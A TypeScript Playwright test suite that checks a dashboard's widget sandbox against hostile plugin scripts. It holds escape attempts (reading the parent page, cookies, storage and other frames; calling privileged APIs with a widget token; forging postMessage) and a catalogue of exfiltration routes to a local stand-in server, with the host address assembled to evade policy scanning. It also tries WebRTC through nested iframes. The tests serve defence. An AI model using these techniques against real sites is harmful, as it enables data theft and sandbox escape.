import { afterAll, beforeAll, beforeEach, expect, test } from 'bun:test';
import { Type } from '@sinclair/typebox';
import { Value } from '@sinclair/typebox/value';
import type { Frame, Page } from 'playwright-core';
import { FLOOD_MESSAGES_PER_SECOND, MOST_HEIGHT_PX } from '../widgets/widget.ts';
import { frameOf, openPluginHouse, type PluginHouse, panelOf, showPanels } from './plugin-house.ts';

/** What a hostile widget tries, in a real browser and a real frame. */
const START_LIMIT_MS = 120_000;
/** A page that answers later feels frozen. */
const RESPONSIVE_MS = 1_000;

const Findings = Type.Record(Type.String(), Type.String());

let house: PluginHouse;
let page: Page;
/** Someone else's server: whatever reaches it has left the house. */
let elsewhere: ReturnType<typeof Bun.serve>;
const leaked: string[] = [];

beforeAll(async () => {
  elsewhere = Bun.serve({
    port: 0,
    fetch(request, server) {
      leaked.push(request.url);
      if (server.upgrade(request, { data: undefined })) return;
      return new Response('thanks', { headers: { 'Access-Control-Allow-Origin': '*' } });
    },
    websocket: { message() {} },
  });
  house = await openPluginHouse();
  page = house.page;
}, START_LIMIT_MS);
afterAll(async () => {
  await house?.close();
  await elsewhere?.stop(true);
});
beforeEach(async () => {
  await house.clear();
  leaked.length = 0;
});

/** In a widget: the frames of the page's other widgets, once there is one. */
const OTHERS = `
  const findOthers = async () => {
    for (;;) {
      const others = [];
      for (let i = 0; i < parent.length; i += 1) if (parent[i] !== window) others.push(parent[i]);
      if (others.length > 0) return others;
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  };`;

/** Tries each step, and keeps what came of it as the text of `#findings`. */
const attempt = (steps: Record<string, string>) => `${OTHERS}
  const steps = {
    ${Object.entries(steps)
      .map(([name, code]) => `${JSON.stringify(name)}: async () => { ${code} },`)
      .join('\n')}
  };
  const findings = {};
  (async () => {
    for (const [name, step] of Object.entries(steps)) {
      try { findings[name] = String(await step()); }
      catch (error) { findings[name] = 'refused: ' + error.name; }
    }
    const place = document.createElement('pre');
    place.id = 'findings';
    place.textContent = JSON.stringify(findings);
    container.append(place);
  })();`;

async function findingsOf(frame: Frame): Promise<Record<string, string>> {
  const text = await frame.locator('#findings').textContent();
  return Value.Parse(Findings, JSON.parse(String(text)));
}

async function run(name: string, script: string): Promise<Frame> {
  await house.install({ name, script });
  await showPanels(page, house.url);
  return frameOf(page, name);
}

/** How long the page takes to do something for its person. */
async function measurePage(): Promise<number> {
  const start = performance.now();
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 0)));
  return performance.now() - start;
}

test('reads nothing of the page, its storage or other frames, and leads the page nowhere', async () => {
  await house.install({ name: 'victim', script: "container.textContent = 'secret';" });
  const frame = await run(
    'reader',
    attempt({
      'parent document': 'return parent.document.body.innerHTML;',
      'top location': 'return top.location.href;',
      'frame element': 'return String(window.frameElement && window.frameElement.id);',
      cookies: 'return document.cookie;',
      localStorage: 'return localStorage.length;',
      sessionStorage: 'return sessionStorage.length;',
      databases: 'return (await indexedDB.databases()).length;',
      caches: 'return (await caches.keys()).length;',
      'service worker': "return await navigator.serviceWorker.register('/widget-frame.js');",
      'another frame': 'return (await findOthers())[0].document.body.innerText;',
      'another script': 'return (await findOthers())[0].fetch;',
      'top navigation': "top.location = '/account'; return 'tried';",
      'open a window': "return String(window.open('/account'));",
      origin: 'return origin;',
    }),
  );
  const findings = await findingsOf(frame);
  const refused = Object.keys(findings).filter((name) => findings[name]?.startsWith('refused'));
  expect(Object.keys(findings).filter((name) => !refused.includes(name))).toEqual([
    'frame element',
    'open a window',
    'origin',
  ]);
  expect([findings['frame element'], findings['open a window'], findings.origin]).toEqual([
    'null',
    'null',
    'null',
  ]);
  expect(new URL(page.url()).pathname).toBe('/');
});

test('its token reads numbers and nothing else', async () => {
  const ask = (method: string, path: string, body = '') =>
    `const answer = await fetch('/api/v1/${path}', { method: '${method}', headers: { Authorization: 'Bearer ' + token, 'Content-Type': 'application/json' } ${body && `, body: '${body}'`} }); return answer.status;`;
  await house.install({
    name: 'other-server',
    script: "const endpoints = { 'secret': async () => ({ secret: 1 }) };",
  });
  const me = (await house.call('GET', 'user/me')).json;
  const frame = await run(
    'caller',
    attempt({
      numbers: ask('GET', 'stats/summary?range=7d'),
      keys: ask('GET', 'keys'),
      'new key': ask('POST', 'keys', '{"name":"mine"}'),
      sessions: ask('GET', 'sessions'),
      profile: ask('PATCH', 'user/me', '{"display_name":"owned"}'),
      publish: ask('POST', 'store/publish', '{"name":"x","display_name":"x"}'),
      'another token': ask('POST', 'plugins/other-server/token', '{}'),
      errors: ask('POST', 'plugins/caller/errors', '{"message":"x"}'),
      heartbeat: ask('POST', 'heartbeat', '{"project":"x"}'),
      'a stranger’s endpoint': ask('POST', 'plugins/nobodys-server/rpc/secret'),
      order: ask('POST', 'dashboard/order', '{"panel_names":[]}'),
      'with the session':
        "return (await fetch('/api/v1/user/me', { credentials: 'include' })).status;",
    }),
  );
  const findings = await findingsOf(frame);
  expect(findings).toEqual({
    numbers: '200',
    keys: '403',
    'new key': '403',
    sessions: '403',
    profile: '403',
    publish: '403',
    'another token': '403',
    errors: '403',
    heartbeat: '403',
    'a stranger’s endpoint': '403',
    order: '403',
    'with the session': '401',
  });
  expect((await house.call('GET', 'user/me')).json.display_name).toBe(me.display_name);
});

test('reaches no other host by any way that leaves a trace', async () => {
  const host = `127.0.0.1:${elsewhere.port}`;
  // Put together so that reading the script does not find the host: the policy stays closed.
  const there = `['http:', '', '${host.split(':')[0]}:' + ${elsewhere.port}].join('/')`;
  const script = attempt({
    fetch: `await fetch(${there} + '/fetch');`,
    'no-cors': `await fetch(${there} + '/no-cors', { mode: 'no-cors' });`,
    beacon: `return navigator.sendBeacon(${there} + '/beacon', 'x');`,
    image: `new Image().src = ${there} + '/image';`,
    socket: `new WebSocket(${there}.replace('http', 'ws') + '/socket');`,
    events: `new EventSource(${there} + '/events');`,
    script: `const s = document.createElement('script'); s.src = ${there} + '/script'; document.head.append(s);`,
    style: `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = ${there} + '/style'; document.head.append(l);`,
    prefetch: `for (const rel of ['prefetch', 'preload', 'dns-prefetch', 'preconnect', 'prerender']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = ${there} + '/' + rel; document.head.append(l); }`,
    speculation: `const r = document.createElement('script'); r.type = 'speculationrules'; r.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [${there} + '/speculation'] }] }); document.head.append(r);`,
    css: `container.style.backgroundImage = 'url(' + ${there} + '/css)';`,
    form: `const f = document.createElement('form'); f.action = ${there} + '/form'; container.append(f); f.submit();`,
    frame: `const f = document.createElement('iframe'); f.src = ${there} + '/frame'; container.append(f);`,
    inner: `const f = document.createElement('iframe'); f.srcdoc = '<script>fetch("' + ${there} + '/inner")</' + 'script>'; container.append(f);`,
    window: `window.open(${there} + '/window');`,
    meta: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + ${there} + '/meta'; document.head.append(m);`,
    navigation: `setTimeout(() => { location = ${there} + '/navigation'; }, 300);`,
  });
  await house.install({ name: 'leaker', script });
  await showPanels(page, house.url);
  // It may be gone soon: leading its frame elsewhere stops it.
  await page.locator('#pval-leaker').scrollIntoViewIfNeeded();
  await panelOf(page, 'leaker').getByText('⚠ Plugin error').waitFor();
  await Bun.sleep(1_000);
  expect(leaked).toEqual([]);
  expect(new URL(page.url()).host).toBe(new URL(house.url).host);
});

test('has no WebRTC, which no policy forbids, and no frame that would have it', async () => {
  const frame = await run(
    'caller-by-rtc',
    `const heard = [];
     addEventListener('message', ({ data }) => { if (data.inner) heard.push(data.inner); });
     const tell = 'parent.postMessage({ inner: typeof RTCPeerConnection }, "*")';
     const inner = (name, value) => {
       const frame = document.createElement('iframe');
       frame[name] = value;
       return frame;
     };
     const script = '<script>' + tell + '</' + 'script>';
     container.append(inner('srcdoc', script));
     container.append(inner('src', 'javascript:' + tell));
     const div = document.createElement('div');
     container.append(div);
     div.attachShadow({ mode: 'closed' }).append(inner('srcdoc', script));
     const deep = document.createElement('section');
     deep.innerHTML = '<p><iframe srcdoc="<img src=x: onerror=\\'' + tell.replaceAll('"', '&quot;') + '\\'>"></iframe></p>';
     container.append(deep);
     Element.prototype.remove = () => {};
     container.append(inner('srcdoc', script));
     setTimeout(() => {
       const place = document.createElement('pre');
       place.id = 'findings';
       place.textContent = JSON.stringify({ own: typeof RTCPeerConnection, inner: heard.join() });
       container.append(place);
     }, 1_500);`,
  );
  expect(await findingsOf(frame)).toEqual({ own: 'undefined', inner: '' });
});

test('speaks for itself alone', async () => {
  await house.install({ name: 'bystander', script: "container.textContent = 'calm';" });
  await run(
    'forger',
    `${OTHERS}
     const error = { type: 'error', message: 'forged', stack: '', line: 1, isFatal: true };
     (async () => { for (const target of [parent, top, ...(await findOthers())]) {
       target.postMessage(error, '*');
       target.postMessage('hearthbeat-widget-port', '*', [new MessageChannel().port1]);
       target.postMessage({ type: 'run', script: 'container.textContent = "forged"', token: '', basePath: '', theme: { scheme: null, variables: {} } }, '*');
     }
     container.textContent = 'sent'; })();`,
  );
  await (await frameOf(page, 'forger')).getByText('sent').waitFor();
  const bystander = await frameOf(page, 'bystander');
  await bystander.getByText('calm').waitFor();
  expect(await panelOf(page, 'bystander').locator('.panel-error').count()).toBe(0);
  expect(await panelOf(page, 'forger').locator('.panel-error').count()).toBe(0);
});

test('that floods the page is stopped, and the page goes on', async () => {
  await house.install({
    name: 'flooder',
    script: `const flood = () => { for (let i = 0; i < ${FLOOD_MESSAGES_PER_SECOND}; i += 1) parent.postMessage(i, '*'); };
      setInterval(flood, 10);`,
  });
  await showPanels(page, house.url);
  await page.locator('#pval-flooder').scrollIntoViewIfNeeded();
  await panelOf(page, 'flooder').getByText('⚠ Plugin error').waitFor();
  expect(await page.locator('#pval-flooder iframe').count()).toBe(0);
  expect(await measurePage()).toBeLessThan(RESPONSIVE_MS);
});

test('cannot grow without end', async () => {
  await run(
    'grower',
    `setInterval(() => { container.style.height = (innerHeight + 500) + 'px'; }, 20);`,
  );
  await page.waitForFunction(
    (most) => document.querySelector('#pval-grower iframe')?.clientHeight === most,
    MOST_HEIGHT_PX,
  );
  await Bun.sleep(300);
  expect(await page.locator('#pval-grower iframe').evaluate((frame) => frame.clientHeight)).toBe(
    MOST_HEIGHT_PX,
  );
});

test('is gone with its uninstall, and its token with it', async () => {
  const frame = await run(
    'survivor',
    "container.textContent = token; setInterval(() => parent.postMessage('alive', '*'), 50);",
  );
  const token = String(await frame.locator('#container').textContent());
  const ask = () =>
    fetch(`${house.localUrl}/api/v1/user/me`, { headers: { Authorization: `Bearer ${token}` } });
  expect((await ask()).status).toBe(200);
  await page.getByRole('button', { name: 'Uninstall survivor' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Uninstall' }).click();
  await panelOf(page, 'survivor').waitFor({ state: 'detached' });
  expect((await ask()).status).toBe(401);
  const heard = await page.evaluate(
    () =>
      new Promise<number>((resolve) => {
        let count = 0;
        window.addEventListener('message', () => {
          count += 1;
        });
        setTimeout(() => resolve(count), 500);
      }),
  );
  expect(heard).toBe(0);
});

/**
 * Chromium gives the widgets of a page one process, beside the page's own: other widgets stand still,
 * also those that it opens next, so this test is the last.
 */
test('that never ends does not hold up the page', async () => {
  await house.install({ name: 'spinner', script: 'setTimeout(() => { while (true) {} }, 100);' });
  await showPanels(page, house.url);
  await page.locator('#pval-spinner').scrollIntoViewIfNeeded();
  await page.locator('#pval-spinner iframe').waitFor({ state: 'attached' });
  await Bun.sleep(1_000);
  for (let turn = 0; turn < 3; turn += 1) expect(await measurePage()).toBeLessThan(RESPONSIVE_MS);
  await page.getByRole('button', { name: 'Uninstall spinner' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Uninstall' }).click();
  await panelOf(page, 'spinner').waitFor({ state: 'detached' });
});
